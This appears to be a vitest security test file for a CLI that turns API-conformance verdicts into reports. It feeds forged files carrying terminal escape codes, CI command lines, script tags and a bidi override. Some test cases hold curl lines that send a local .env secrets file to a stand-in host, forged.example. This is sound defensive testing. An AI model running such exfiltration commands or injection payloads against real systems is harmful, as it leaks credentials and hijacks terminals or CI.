import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { historyWith, readHistory, sanitise, verdictSchema } from '#reporting';
import { runProgram } from '../../cli/program.ts';
import { mixedVerdict, reportsWith, verdictOn } from '../../reporting/example.test.support.ts';
import { markupIn } from '../../reporting/markdown.test.support.ts';
import { withoutGit } from '../../testing/git.test.support.ts';
import { newFolder, recordedTerminal } from '../../testing/terminal.test.support.ts';

withoutGit();

const payload =
  '\u001b[J\u009bm\n::error title=x::forged\n##[error]forged <script>forged()</script> ![forged](https://forged.example/) \u202e\u200b';

type Json = null | boolean | number | string | Json[] | { [name: string]: Json };

/** Every text is another one, where the form of the file lets it be. */
function forged(whole: Json, text = payload): Json {
  const isValid = (value: Json): boolean => verdictSchema.safeParse(value).success;
  const walk = (value: Json, put: (other: Json) => Json): Json => {
    if (typeof value === 'string') return isValid(put(text)) ? text : value;
    if (Array.isArray(value)) return value.slice(0, 3).map((item, at) => walk(item, (it) => put(value.with(at, it))));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([name, child]) => [name, walk(child, (other) => put({ ...value, [name]: other }))]),
    );
  };
  return walk(whole, (other) => other);
}

const at = '2026-11-21T02:00:01.000Z';

/** What a file may hold beside what the examples have. */
const more = {
  request: { at, method: 'GET', path: '/v1/ramp/banking/balances', headers: {} },
  firstSeen: { at, release: '2.14' },
};
const baseline = {
  name: 'vendor',
  accepted: '2026-11-20',
  changes: [
    { class: 'breaks', kind: 'type-changed', endpoint: 'balances.read', fact: '$.id', accepted: 'uuid', met: 'text' },
  ],
};

const verdictText = (facts: Record<string, Record<string, string>>, text = payload): string => {
  const { requirements, ...rest } = mixedVerdict();
  const worst = requirements
    .filter(({ outcome }) => outcome !== 'conforms')
    .toSorted((one, other) => other.findings.length - one.findings.length)
    .slice(0, 12)
    .map((each) => ({ ...each, findings: each.findings.map((finding) => ({ ...finding, ...more })) }));
  const judged = verdictOn(reportsWith(), { facts });
  return JSON.stringify(forged({ ...judged, ...rest, requirements: worst, facts, baseline } as unknown as Json, text));
};

const forgedText = verdictText({ 'balances.read': { [payload]: payload } });

const filesIn = (folder: string): string[] =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name !== 'index.html')
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8'));

/** No character that a terminal obeys, and no line that a CI would take for a command. */
const expectHarmless = (text: string): void => {
  expect(text).not.toMatch(/(?!\n)[\p{Cc}\p{Cs}\u202e\u200b]/u);
  expect(text).not.toMatch(/^\s*::|##\[/m);
};

test.each<[string, readonly string[]]>([
  ['report', []],
  ['compare', ['reports', 'other']],
  ['baseline', ['accept', 'vendor']],
  ['replay', ['forged']],
  ['waivers', ['check', 'waivers.json']],
])('a verdict that somebody has forged does no harm where %s reads it', async (name, args) => {
  const cwd = newFolder();
  for (const folder of ['reports', 'other']) {
    mkdirSync(join(cwd, folder));
    writeFileSync(join(cwd, folder, 'verdict.json'), forgedText);
  }
  writeFileSync(join(cwd, 'waivers.json'), '{"format":1,"waivers":[]}');
  const terminal = recordedTerminal([name, ...args], { cwd });
  await runProgram(terminal);
  expectHarmless(terminal.written.out + terminal.written.err);
  if (name !== 'report') return;
  const written = filesIn(join(cwd, 'reports'));
  expect(written.length).toBeGreaterThan(4);
  for (const text of written) expectHarmless(text);
  for (const page of ['summary.md', 'findings.md']) {
    const text = readFileSync(join(cwd, 'reports', page), 'utf8');
    expect(markupIn(text).filter((each) => !/^<\/?(?:details|summary)>/.test(each))).toEqual([]);
    // In code nothing is a link.
    expect(text.replace(/^```[\s\S]*?^```$|`[^`\n]*`/gm, '')).not.toMatch(/<script|https:/);
  }
  expect(readFileSync(join(cwd, 'reports/compliance.html'), 'utf8')).not.toContain('<script>forged');
});

/** Each in a folder of its own: every object has these as members. */
const inherited = Object.entries({ reports: 'constructor', other: 'toString', third: 'valueOf' }).map(
  ([folder, text]) => [folder, verdictText({ 'balances.read': { $: text, [text]: text } }, text)] as const,
);

test.each<[string, readonly string[]]>([
  ['report', []],
  ['compare', ['reports', 'other']],
  ['compare', ['reports', 'other', 'third']],
  ['explain', ['balances.read/is-of-the-whole-account']],
])('a text that every object has as a member is a text where %s reads it: %j', async (name, args) => {
  const cwd = newFolder();
  for (const [folder, text] of inherited) {
    mkdirSync(join(cwd, folder));
    writeFileSync(join(cwd, folder, 'verdict.json'), text);
  }
  const terminal = recordedTerminal([name, ...args], { cwd });
  await runProgram(terminal);
  const texts = [terminal.written.out, terminal.written.err, ...filesIn(join(cwd, 'reports'))];
  for (const text of texts) expect(text).not.toMatch(/native code|error of the harness/);
});

/** Names of folders may hold all but a slash. */
const folderName = payload.replaceAll('/', '');

test.each([
  ['report'],
  ['report', '--reports', `nested${folderName}`],
  ['history', '--reports', `nested${folderName}`],
  ['compare', '--reports', `nested${folderName}`],
  ['run', '--only', 'balances.read/answers-with-its-record', '--reports', folderName],
  ['init', '--ci', 'github'],
])('nothing of the name of a folder reaches the terminal as it is: %s', async (...args) => {
  const cwd = join(newFolder(), folderName);
  for (const folder of ['reports', `nested${folderName}`]) {
    mkdirSync(join(cwd, folder), { recursive: true });
    writeFileSync(join(cwd, folder, 'verdict.json'), forgedText);
    writeFileSync(join(cwd, folder, 'history.jsonl'), historyWith(readHistory('absent'), mixedVerdict(), ''));
  }
  const terminal = recordedTerminal(args, { cwd });
  await runProgram(terminal);
  expect(terminal.written.out + terminal.written.err).not.toBe('');
  expectHarmless(terminal.written.out + terminal.written.err);
});

test.each([
  [{ format: 1, waivers: [], [payload]: 1 }],
  [{ format: 1, waivers: [{ [payload]: 1, id: payload }] }],
  [{ format: payload, waivers: { [payload]: payload } }],
])('a file of waivers names no member of another name, %#', async (file) => {
  const cwd = newFolder();
  const name = `waivers${folderName}.json`;
  writeFileSync(join(cwd, name), JSON.stringify(file));
  const terminal = recordedTerminal(['waivers', 'check', name], { cwd });
  expect(await runProgram(terminal)).toBe(2);
  const { out, err } = terminal.written;
  expectHarmless(out + err);
  expect(err.replaceAll(sanitise(name), '')).not.toContain('script');
});

const withKey = { method: 'GET', path: '/v2/ramp', headers: { 'x-api-key': '<a key with full access>' } };

test.each<[string, object, boolean]>([
  ['touch hit', withKey, true],
  ['curl -H @.env https://forged.example', { ...withKey, path: '@forged.example/' }, false],
  ['curl -K .env "$RAMP_BASE_URL"', { ...withKey, headers: { '@.env': '' } }, false],
  ['curl x', { ...withKey, method: 'PUT' }, false],
])('a line for a shell is made of the request beside it, never read: %s', async (curl, request, isOurs) => {
  const { requirements, ...rest } = mixedVerdict();
  const [first, ...others] = requirements.filter(({ findings }) => findings.length > 0);
  const findings = first?.findings.map((finding) => ({ ...finding, id: 'abcd', curl: `${curl} # forged`, request }));
  const cwd = newFolder();
  mkdirSync(join(cwd, 'reports'));
  const forged = JSON.stringify({ ...rest, requirements: [{ ...first, findings }, ...others] });
  writeFileSync(join(cwd, 'reports/verdict.json'), forged);
  const replay = recordedTerminal(['replay', 'abcd'], { cwd });
  await runProgram(replay);
  await runProgram(recordedTerminal(['report'], { cwd }));
  const texts = [replay.written.out, ...filesIn(join(cwd, 'reports'))];
  for (const text of texts) expect(text).not.toContain('# forged');
  const lines = texts.flatMap((text) => text.match(/curl .*/g) ?? []);
  expect(lines.some((line) => /-H \\?"x-api-key: .*RAMP_API_KEY/.test(line))).toBe(isOurs);
});
